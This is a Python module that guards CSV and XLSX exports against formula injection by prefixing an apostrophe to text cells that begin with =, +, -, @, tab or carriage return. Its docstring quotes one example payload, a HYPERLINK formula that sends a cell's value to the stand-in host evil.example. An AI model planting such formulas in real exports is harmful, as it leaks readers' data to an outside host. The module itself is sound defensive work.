"""Cells of CSV and XLSX exports that a spreadsheet program cannot run.

Excel, LibreOffice and Google Sheets treat a cell that begins with `=`, `+`, `-` or `@` (and,
after a tab or a carriage return, the same) as a formula: a plan's text such as
`=HYPERLINK("http://evil.example/?x="&B2, "details")` would run on the reader's machine. Text
cells that begin so get a leading apostrophe, which spreadsheets show as plain text (OWASP's
"CSV injection" advice). Numbers, and text that is just a number ("-5", "+3.5"), stay as they
are, so open data keeps its negative values.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)*|\.\d+)%?")


def neutralise(value: Any) -> Any:
    """`value`, made inert if it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(
            value):
        return "'" + value
    return value


def neutralise_rows(rows: Iterable[Iterable[Any]]) -> Iterable[list[Any]]:
    return ([neutralise(v) for v in row] for row in rows)
